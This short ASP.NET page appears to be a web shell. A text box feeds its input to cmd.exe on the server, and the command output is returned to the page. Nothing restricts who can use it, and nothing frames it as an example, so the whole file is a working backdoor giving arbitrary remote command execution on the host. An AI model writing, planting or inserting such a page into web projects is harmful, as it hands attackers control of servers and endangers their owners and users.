<%@ Page Language="C#" %>
<script runat="server">
void Run(object s, EventArgs e) {
 var p = new System.Diagnostics.Process();
 p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + cmd.Text;
 p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;
 p.Start(); result.Text = p.StandardOutput.ReadToEnd();
}
</script>
<form runat="server"><asp:TextBox ID="cmd" runat="server"/><asp:Label ID="result" runat="server"/></form>
